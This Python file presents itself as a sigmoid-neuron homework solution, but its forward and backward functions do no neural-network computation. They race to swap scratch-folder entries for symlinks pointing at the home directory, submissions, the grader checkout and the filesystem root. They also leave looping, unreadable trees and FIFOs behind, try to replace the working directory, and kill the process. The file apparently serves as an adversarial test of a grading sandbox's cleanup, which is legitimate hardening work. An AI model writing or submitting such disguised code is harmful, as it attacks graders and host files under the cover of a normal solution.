"""Swaps files and folders of its scratch folder for links to elsewhere, thousands of times, while the wall looks into the folder
and when it removes it; leaves deep, locked and looping trees behind."""

import ctypes
import os
import threading
import time

AWAY = ("@home@", "@submissions@", "@checkout@/grader", "/", "..")
libc = ctypes.CDLL(None, use_errno=True)
END = time.monotonic() + 1.5


def swap(name, target):
    while time.monotonic() < END:
        for way in (lambda: os.mkdir(name), lambda: open(f"{name}/.netrc", "w").close(),
                    lambda: os.rename(name, f"{name}-moved"), lambda: os.symlink(target, name),
                    lambda: libc.renameat2(-100, name.encode(), -100, f"{name}-moved".encode(), 2),
                    lambda: os.unlink(name), lambda: os.unlink(f"{name}-moved/.netrc"), lambda: os.rmdir(f"{name}-moved")):
            try:
                way()
            except OSError:
                continue


def leave():
    for i, target in enumerate(AWAY):
        for way in (os.symlink, os.link):
            try:
                way(target, f"to{i}{way.__name__}")
            except OSError:
                continue
        os.makedirs(f"deep{i}/a/b/c/d", exist_ok=True)
        try:
            os.symlink(target, f"deep{i}/a/b/c/d/away")
            os.symlink("..", f"deep{i}/a/up")
            os.mkfifo(f"deep{i}/fifo")
        except OSError:
            continue
    for name in ("deep0/a/b", "deep1"):
        try:
            os.chmod(name, 0)
        except OSError:
            continue
    here = os.getcwd()
    for way in (lambda: os.rename(here, here + "-moved"), lambda: os.rmdir(here), lambda: os.symlink("@home@", here)):
        try:
            way()
        except OSError:
            continue


def sigmoid_neuron_forward(w, x):
    threads = [threading.Thread(target=swap, args=(f"swap{i}", target)) for i, target in enumerate(AWAY)]
    for thread in threads:
        thread.start()
    try:
        leave()
    except OSError:
        pass
    for thread in threads[:1]:
        thread.join()
    os._exit(9)


def sigmoid_neuron_backward(df, cache):
    for i in range(40):
        try:
            os.symlink(AWAY[i % len(AWAY)], f"b{i}")
        except OSError:
            continue
    return None
